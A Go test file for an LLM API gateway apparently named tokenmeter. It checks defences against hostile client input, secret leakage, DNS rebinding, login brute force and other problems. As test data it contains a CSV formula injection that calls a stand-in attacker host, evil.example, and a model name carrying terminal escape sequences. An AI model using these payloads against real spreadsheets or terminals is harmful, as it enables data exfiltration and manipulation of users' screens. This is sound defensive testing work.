package main

import (
	"bufio"
	"context"
	"encoding/csv"
	"encoding/json"
	"fmt"
	"io"
	"net"
	"net/http"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/tokenmeter/tokenmeter"
	"github.com/tokenmeter/tokenmeter/internal/alerts"
	"github.com/tokenmeter/tokenmeter/internal/authlimit"
)

// TestHostileNamesThroughGateway: a client chooses its model name (with a
// terminal escape sequence) and its project (a spreadsheet formula); the
// tables of report and the CSV of report --csv show neither in a form
// that acts (issue 13 item 6).
func TestHostileNamesThroughGateway(t *testing.T) {
	up, _ := newUpstream(t)
	gw := startGateway(t, up.URL, nil)
	resp, body := post(t, gw.URL()+"/anthropic/v1/messages", map[string]string{"X-Tokenmeter-Project": `=HYPERLINK("http://evil.example/?"&A1,"open")`},
		`{"model":"\u001b]0;owned\u0007\u001b[2Jclaude-haiku-5-5","max_tokens":100,"messages":[{"role":"user","content":"[[fake output=10]] hi"}]}`)
	if resp.StatusCode != 200 {
		t.Fatalf("call: %d %s", resp.StatusCode, body)
	}
	gw.waitCompleted(t, resp.Header.Get(HeaderRequestIDForTest))
	for _, by := range []string{"model", "project"} {
		out, stderr, err := run(t, "report", "daily", "--by", by, "--data", gw.Config.Data)
		if err != nil {
			t.Fatalf("report --by %s: %v %s", by, err, stderr)
		}
		if strings.ContainsAny(out, "\x1b\x07") {
			t.Errorf("report daily --by %s writes control characters to the terminal:\n%q", by, out)
		}
		out, _, err = run(t, "report", "daily", "--by", by, "--csv", "--data", gw.Config.Data)
		if err != nil {
			t.Fatal(err)
		}
		rows, err := csv.NewReader(strings.NewReader(out)).ReadAll()
		if err != nil {
			t.Fatalf("report --csv: %v\n%s", err, out)
		}
		for _, row := range rows {
			if k := row[1]; k != "" && strings.ContainsAny(k[:1], "=+-@\t\r") {
				t.Errorf("report --csv --by %s: key cell %q is a formula", by, k)
			}
		}
		if by == "project" && rows[1][1] != `'=HYPERLINK("http://evil.example/?"&A1,"open")` {
			t.Errorf("report --csv --by project: key cell %q; want the project behind a quote", rows[1][1])
		}
	}
}

// TestCommandSinkEnvironment: a command sink of the config runs with the
// allow-list and the variables its env: names, never the gateway's
// provider keys or admin token (issue 13 item 7).
func TestCommandSinkEnvironment(t *testing.T) {
	out := filepath.Join(t.TempDir(), "env.txt")
	env := map[string]string{"PATH": os.Getenv("PATH"), "ANTHROPIC_API_KEY": "sk-ant-leak", "OPENAI_ADMIN_KEY": "sk-admin-leak",
		"TOKENMETER_ADMIN_TOKEN": "admin-leak", "PAGER_TOKEN": "pager-ok", "TZ": "Europe/Berlin"}
	getenv := func(k string) string { return env[k] }
	a := AlertsConfig{Sinks: []SinkConfig{{Name: "pager", Type: "command", Command: "env > " + out, Env: []string{"PAGER_TOKEN"}}}}
	if errs := a.validate(); len(errs) > 0 {
		t.Fatal(errs)
	}
	sinks, _, err := a.sinks(getenv)
	if err != nil {
		t.Fatal(err)
	}
	m := alerts.Sample(time.Now())
	payload, _ := json.Marshal(m)
	if err := sinks[0].Send(context.Background(), m, payload); err != nil {
		t.Fatal(err)
	}
	b, _ := os.ReadFile(out)
	got := string(b)
	if strings.Contains(got, "leak") || !strings.Contains(got, "PAGER_TOKEN=pager-ok") || !strings.Contains(got, "TZ=Europe/Berlin") ||
		!strings.Contains(got, "TOKENMETER_ALERT_EVENT=firing") {
		t.Errorf("the command's environment:\n%s", got)
	}
}

// TestDNSRebinding: the dashboard, /api and /metrics answer 421 to a Host
// that is neither loopback, an address nor a configured public name (a
// page whose name was re-pointed at 127.0.0.1); the gateway routes
// answer under any name (issue 13 item 8).
func TestDNSRebinding(t *testing.T) {
	up, _ := newUpstream(t)
	gw := startGateway(t, up.URL, func(s *Serve) {
		s.Config.AdminToken = "rebinding-test-admin-token-0123"
		s.Config.PublicNames = []string{"tokenmeter.example.com"}
	})
	_, port, _ := net.SplitHostPort(strings.TrimPrefix(gw.URL(), "http://"))
	do := func(method, path, host string, body string) int {
		t.Helper()
		req, _ := http.NewRequest(method, gw.URL()+path, strings.NewReader(body))
		req.Host = host
		req.Header.Set("Authorization", "Bearer rebinding-test-admin-token-0123")
		req.Header.Set("Content-Type", "application/json")
		resp, err := http.DefaultClient.Do(req)
		if err != nil {
			t.Fatal(err)
		}
		io.Copy(io.Discard, resp.Body)
		resp.Body.Close()
		return resp.StatusCode
	}
	for _, path := range []string{"/api/status", "/api/keys", "/metrics", "/", "/ui/login"} {
		for _, host := range []string{"evil.example:" + port, "evil.example", "localhost.evil.example:" + port} {
			if code := do("GET", path, host, ""); code != http.StatusMisdirectedRequest {
				t.Errorf("GET %s with Host %s: %d, want 421", path, host, code)
			}
		}
		for _, host := range []string{"127.0.0.1:" + port, "localhost:" + port, "tokenmeter.example.com", "TokenMeter.Example.com.:" + port} {
			if code := do("GET", path, host, ""); code == http.StatusMisdirectedRequest || code >= 500 {
				t.Errorf("GET %s with Host %s: %d, want it served", path, host, code)
			}
		}
	}
	// A rebound page cannot create a key either.
	if code := do("POST", "/api/keys", "evil.example:"+port, `{"name":"rebound"}`); code != http.StatusMisdirectedRequest {
		t.Errorf("POST /api/keys with a foreign Host: %d, want 421", code)
	}
	// The gateway routes are for clients under any name (a reverse proxy,
	// a container's service name).
	if code := do("POST", "/anthropic/v1/messages", "llm-gateway.internal", `{"model":"claude-haiku-5-5","max_tokens":10,"messages":[{"role":"user","content":"hi"}]}`); code != 200 {
		t.Errorf("gateway call with another Host: %d, want 200", code)
	}
}

// TestLoginRateLimit: an address that fails to log in authlimit's burst
// of times is refused with 429 and a retry-after, on the log-in form and
// the admin API alike (one allowance), even with the right token, until
// the allowance refills (issue 13 item 9).
func TestLoginRateLimit(t *testing.T) {
	up, _ := newUpstream(t)
	clk := &simClock{t: time.Date(2026, 12, 1, 10, 0, 0, 0, time.UTC)}
	const token = "login-rate-limit-admin-token-0123"
	gw := startGateway(t, up.URL, func(s *Serve) {
		s.Config.AdminToken = token
		s.AuthLimiter = authlimit.New()
		s.AuthLimiter.Now = clk.Now
	})
	b := newBrowserClient(t, gw.URL())
	for i := range authlimit.DefaultBurst {
		if resp, body := b.login(fmt.Sprintf("wrong-token-%d", i), nil); resp.StatusCode != http.StatusUnauthorized {
			t.Fatalf("wrong log-in %d: %d %s; want 401", i+1, resp.StatusCode, body)
		}
	}
	resp, body := b.login(token, nil)
	if resp.StatusCode != http.StatusTooManyRequests || resp.Header.Get("Retry-After") != "6" ||
		!strings.Contains(body, "too many failed log-ins from your address: try again in 6 seconds") {
		t.Errorf("log-in after %d failures, right token: %d retry-after %q\n%s; want 429, 6 s", authlimit.DefaultBurst, resp.StatusCode, resp.Header.Get("Retry-After"), body)
	}
	if strings.Contains(gw.logs.String(), token) || strings.Contains(gw.logs.String(), "wrong-token-") {
		t.Error("the log shows a credential")
	}
	// The admin API shares the allowance.
	resp, raw := apiCall(t, "GET", gw.URL()+"/api/status", bearer(token), "")
	if resp.StatusCode != http.StatusTooManyRequests || resp.Header.Get("Retry-After") == "" || !strings.Contains(string(raw), `"rate_limited"`) {
		t.Errorf("/api/status while limited: %d %s", resp.StatusCode, raw)
	}
	clk.Set(clk.Now().Add(authlimit.DefaultRefill))
	if resp, body := b.login(token, nil); resp.StatusCode != http.StatusSeeOther {
		t.Errorf("log-in a refill later: %d %s; want 303", resp.StatusCode, body)
	}
	// Wrong bearer tokens count too.
	clk.Set(clk.Now().Add(time.Hour))
	for i := range authlimit.DefaultBurst {
		if resp, _ := apiCall(t, "GET", gw.URL()+"/api/status", bearer(fmt.Sprintf("guess-%d", i)), ""); resp.StatusCode != http.StatusUnauthorized {
			t.Fatalf("wrong bearer %d: %d", i+1, resp.StatusCode)
		}
	}
	if resp, _ := apiCall(t, "GET", gw.URL()+"/api/status", bearer("guess-x"), ""); resp.StatusCode != http.StatusTooManyRequests {
		t.Errorf("bearer guess after the burst: %d, want 429", resp.StatusCode)
	}
}

// TestSecretFlagsWarn: --admin-token and --alert-slack still work, and
// serve warns at start that their values show in the process list, naming
// the flag and the way out, never the value (issue 13 item 10).
func TestSecretFlagsWarn(t *testing.T) {
	up, _ := newUpstream(t)
	secretDir := t.TempDir()
	tokenFile := filepath.Join(secretDir, "token")
	os.WriteFile(tokenFile, []byte("a-token-in-a-readable-file-012\n"), 0o644)
	for _, tt := range []struct {
		args []string
		warn []string // substrings of stderr
	}{
		{[]string{"--admin-token", "flag-token-0123456789abcdef", "--alert-slack", "http://127.0.0.1:9/services/T0/B0/slack-secret"},
			[]string{"--admin-token (use $TOKENMETER_ADMIN_TOKEN or --admin-token-file)", "--alert-slack (use $TOKENMETER_ALERT_SLACK or --alert-slack-file)", "process list"}},
		{[]string{"--admin-token-file", tokenFile}, []string{"chmod 600", "mode=-rw-r--r--"}},
	} {
		ctx, cancel := context.WithCancel(context.Background())
		stdout, stderr := &syncBuffer{}, &syncBuffer{}
		done := make(chan error, 1)
		go func() {
			done <- Run(ctx, append([]string{"serve", "--listen", "127.0.0.1:0", "--data", t.TempDir(), "--upstream", "anthropic=" + up.URL}, tt.args...),
				strings.NewReader(""), stdout, stderr)
		}()
		waitFor(t, "serve to listen", func() bool { return strings.Contains(stdout.String(), "gateway on ") })
		cancel()
		if err := <-done; err != nil {
			t.Fatalf("serve %v: %v\n%s", tt.args, err, stderr.String())
		}
		for _, w := range tt.warn {
			if !strings.Contains(stderr.String(), w) {
				t.Errorf("serve %v: stderr lacks %q:\n%s", tt.args, w, stderr.String())
			}
		}
		for _, secret := range []string{"flag-token-0123", "slack-secret", "a-token-in-a"} {
			if strings.Contains(stderr.String(), secret) {
				t.Errorf("serve %v: stderr shows a secret:\n%s", tt.args, stderr.String())
			}
		}
	}
	if _, _, err := run(t, "serve", "--admin-token", "x-0123456789abcdef", "--admin-token-file", tokenFile); err == nil || !strings.Contains(message(err), "exclude each other") {
		t.Errorf("--admin-token with --admin-token-file: %v", err)
	}
}

// TestLimitHeadersForKeys: a virtual key's responses show the remaining
// figure of its own limits only, as /api/me does; of a limit it shares
// (global, project, model) the name and reset, not what others used. A
// pass-through caller is shown the figure (issue 13 item 11).
func TestLimitHeadersForKeys(t *testing.T) {
	gw, _ := keysGateway(t, nil, nil)
	alice := createKey(t, gw.Config.Data, "--name", "alice", "--project", "web")
	set := func(name, scope, max string) {
		t.Helper()
		if _, stderr, err := run(t, "limits", "set", name, "--scope", scope, "--metric", "tokens", "--max", max, "--window", "day",
			"--mode", "hard", "--data", gw.Config.Data); err != nil {
			t.Fatalf("limits set %s: %v %s", name, err, stderr)
		}
	}
	del := func(name string) {
		t.Helper()
		if _, stderr, err := run(t, "limits", "delete", name, "--data", gw.Config.Data); err != nil {
			t.Fatalf("limits delete %s: %v %s", name, err, stderr)
		}
	}
	set("alice-day", "key:alice", "1000000")
	for _, shared := range []struct{ name, scope string }{{"team-day", "global"}, {"web-day", "project:web"}, {"haiku-day", "model:claude-haiku-5-5"}} {
		set(shared.name, shared.scope, "500000") // tighter than alice's own
		var h http.Header
		waitFor(t, "the gateway to apply "+shared.name, func() bool {
			resp, body := callWith(t, gw, "anthropic", alice, nil)
			if resp.StatusCode != 200 {
				t.Fatalf("call: %d %s", resp.StatusCode, body)
			}
			h = resp.Header
			return h.Get("X-Tokenmeter-Limit") == shared.name
		})
		if h.Get("X-Tokenmeter-Remaining") != "" || h.Get("X-Tokenmeter-Reset") == "" {
			t.Errorf("alice under %s (%s): remaining %q, reset %q; want no remaining (others' usage), a reset",
				shared.name, shared.scope, h.Get("X-Tokenmeter-Remaining"), h.Get("X-Tokenmeter-Reset"))
		}
		// /api/me hides the same figure.
		resp, raw := apiCall(t, "GET", gw.URL()+"/api/me", map[string]string{"x-api-key": alice}, "")
		var me struct {
			Limits []struct {
				Name      string   `json:"name"`
				Remaining *float64 `json:"remaining"`
			} `json:"limits"`
		}
		json.Unmarshal(raw, &me)
		for _, l := range me.Limits {
			if (l.Name == shared.name) != (l.Remaining == nil) {
				t.Errorf("/api/me (%d): %s remaining %v; want it hidden exactly for the shared limit", resp.StatusCode, l.Name, l.Remaining)
			}
		}
		// A pass-through caller (the provider's own key) sees the figure.
		resp, body := callWith(t, gw, "anthropic", "sk-ant-passthrough-caller", map[string]string{"X-Tokenmeter-Project": "web"})
		if resp.StatusCode != 200 || resp.Header.Get("X-Tokenmeter-Limit") != shared.name || resp.Header.Get("X-Tokenmeter-Remaining") == "" {
			t.Errorf("pass-through under %s: %d %s, headers %v", shared.name, resp.StatusCode, body, resp.Header)
		}
		del(shared.name)
	}
	// Its own limit, the tightest again: the figure is shown.
	var h http.Header
	waitFor(t, "the gateway to drop the shared limits", func() bool {
		resp, _ := callWith(t, gw, "anthropic", alice, nil)
		h = resp.Header
		return h.Get("X-Tokenmeter-Limit") == "alice-day"
	})
	if h.Get("X-Tokenmeter-Remaining") == "" {
		t.Errorf("alice under her own limit: no remaining figure: %v", h)
	}
}

// TestHalfClose: a client that sends its request and half-closes the
// connection (shutdown of its write side) is answered 499 in the
// provider's error shape, never an empty 200, and the call is recorded as
// cancelled (issue 13 item 13).
func TestHalfClose(t *testing.T) {
	up, _ := newUpstream(t)
	gw := startGateway(t, up.URL, nil)
	body := `{"model":"claude-haiku-5-5","max_tokens":50,"messages":[{"role":"user","content":"hi [[fake output=5 delay=300ms]]"}]}`
	conn, err := net.Dial("tcp", strings.TrimPrefix(gw.URL(), "http://"))
	if err != nil {
		t.Fatal(err)
	}
	defer conn.Close()
	fmt.Fprintf(conn, "POST /anthropic/v1/messages HTTP/1.1\r\nHost: 127.0.0.1\r\nx-api-key: sk-ant-half-close\r\nanthropic-version: 2023-06-01\r\n"+
		"content-type: application/json\r\ncontent-length: %d\r\n\r\n%s", len(body), body)
	conn.(*net.TCPConn).CloseWrite()
	conn.SetReadDeadline(time.Now().Add(20 * time.Second))
	resp, err := http.ReadResponse(bufio.NewReader(conn), nil)
	if err != nil {
		t.Fatalf("no response after a half-close: %v", err)
	}
	raw, _ := io.ReadAll(resp.Body)
	var e struct {
		Type  string `json:"type"`
		Error struct{ Type, Message string }
	}
	if resp.StatusCode != 499 || json.Unmarshal(raw, &e) != nil || e.Type != "error" || !strings.Contains(e.Error.Message, "half-close") {
		t.Errorf("half-closed client: %d %s; want 499 with an Anthropic-shaped error that says why", resp.StatusCode, raw)
	}
	// Noticed while the request was forwarded, the call is recorded as
	// cancelled; noticed before (while a hard limit's reservation was
	// made, on a slow machine), it was not forwarded and, like every
	// request refused before forwarding, is not recorded.
	if strings.Contains(e.Error.Message, "the request was not forwarded") {
		if _, ok := gw.completed(t)[resp.Header.Get(HeaderRequestIDForTest)]; ok {
			t.Errorf("a request not forwarded is in the ledger")
		}
		return
	}
	ev := gw.waitCompleted(t, resp.Header.Get(HeaderRequestIDForTest))
	if ev.Outcome != tokenmeter.OutcomeCancelled || !strings.Contains(e.Error.Message, "the call was cancelled") {
		t.Errorf("recorded %s (%s), answered %q; want cancelled", ev.Outcome, ev.Reason, e.Error.Message)
	}
}

// TestServiceTierPriced: OpenAI calls served on the flex and priority
// tiers are recorded with their tier and priced at half and double the
// standard rate (gpt-5, prices.md 2.2); a tier the table has no price for
// is recorded with an unknown cost, not the standard one (issue 13
// item 13).
func TestServiceTierPriced(t *testing.T) {
	up, _ := newUpstream(t)
	gw := startGateway(t, up.URL, nil)
	costs := map[string]tokenmeter.Event{}
	for _, tier := range []string{"", "auto", "flex", "priority", "scale"} {
		field := ""
		if tier != "" {
			field = `"service_tier":"` + tier + `",`
		}
		resp, body := post(t, gw.URL()+"/openai/v1/chat/completions", map[string]string{"Authorization": "Bearer sk-proj-tier"},
			`{"model":"gpt-5",`+field+`"messages":[{"role":"user","content":"[[fake input=1000 output=100]] hi"}]}`)
		if resp.StatusCode != 200 {
			t.Fatalf("tier %q: %d %s", tier, resp.StatusCode, body)
		}
		costs[tier] = gw.waitCompleted(t, resp.Header.Get(HeaderRequestIDForTest))
	}
	std := costs[""]
	if std.ServiceTier != "default" || !std.CostKnown || std.Cost == 0 || costs["auto"].Cost != std.Cost {
		t.Fatalf("standard call: tier %q, cost %d (known %v); auto %d", std.ServiceTier, std.Cost, std.CostKnown, costs["auto"].Cost)
	}
	for tier, want := range map[string]tokenmeter.Micros{"flex": std.Cost / 2, "priority": std.Cost * 2} {
		ev := costs[tier]
		if ev.ServiceTier != tier || !ev.CostKnown || ev.Cost != want {
			t.Errorf("%s call: tier %q, cost %d (known %v); want %s, %d", tier, ev.ServiceTier, ev.Cost, ev.CostKnown, tier, want)
		}
	}
	if ev := costs["scale"]; ev.ServiceTier != "scale" || ev.CostKnown || ev.Cost != 0 {
		t.Errorf("scale call: tier %q, cost %d (known %v); want an unknown cost", ev.ServiceTier, ev.Cost, ev.CostKnown)
	}
	// The tier is in the ledger's chain: verify passes.
	if out, _, err := run(t, "verify", "--data", gw.Config.Data); err != nil {
		t.Errorf("verify: %v %s", err, out)
	}

	// A hard cost limit reserves the worst case at the requested tier:
	// 3,000 output tokens of gpt-5 (about $0.03 at the standard rate, $0.06
	// at priority) fit under $0.05 only at the standard rate.
	if _, stderr, err := run(t, "limits", "set", "spend", "--scope", "project:tiers", "--metric", "cost_usd", "--max", "0.05",
		"--window", "day", "--mode", "hard", "--data", gw.Config.Data); err != nil {
		t.Fatalf("limits set: %v %s", err, stderr)
	}
	call := func(tier string) int {
		resp, body := post(t, gw.URL()+"/openai/v1/chat/completions", map[string]string{"Authorization": "Bearer sk-proj-tier", "X-Tokenmeter-Project": "tiers"},
			`{"model":"gpt-5","service_tier":"`+tier+`","max_completion_tokens":3000,"messages":[{"role":"user","content":"[[fake output=1]] hi"}]}`)
		if resp.StatusCode != 200 && resp.StatusCode != http.StatusTooManyRequests {
			t.Fatalf("%s-tier request: %d %s", tier, resp.StatusCode, body)
		}
		return resp.StatusCode
	}
	waitFor(t, "the limit to apply", func() bool { return call("priority") == http.StatusTooManyRequests })
	if code := call("default"); code != 200 {
		t.Errorf("standard-tier request under the cost limit: %d, want 200", code)
	}
}
